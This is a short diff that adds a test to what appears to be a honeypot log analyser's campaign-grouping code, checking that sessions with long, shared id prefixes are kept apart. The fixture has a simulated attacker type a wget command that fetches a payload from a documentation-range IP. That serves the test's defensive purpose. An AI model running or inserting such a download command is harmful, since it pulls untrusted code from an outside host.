@@ -158,6 +158,12 @@ describe("findCampaigns", () => {
     expect(found.campaigns).toEqual([]);
   });
 
+  test("sessions whose ids are the same for long are two", async () => {
+    const ids = ["a", "b"].map(end => "s".repeat(5000) + end);
+    const found = await find([ids.flatMap((id, i) => session(id, 10 * i, typed("wget http://198.51.100.7/weasel")))]);
+    expect([found.sessions, membersOf(found)]).toEqual([2, [ids]]);
+  });
+
   test("of nothing is nothing", async () => {
     const found = await find([[...session("s1", 0, ["session.connect", { dst_port: 22 }])]]);
     expect([found.campaigns, found.sessions, found.marked, found.days]).toEqual([[], 1, 0, undefined]);
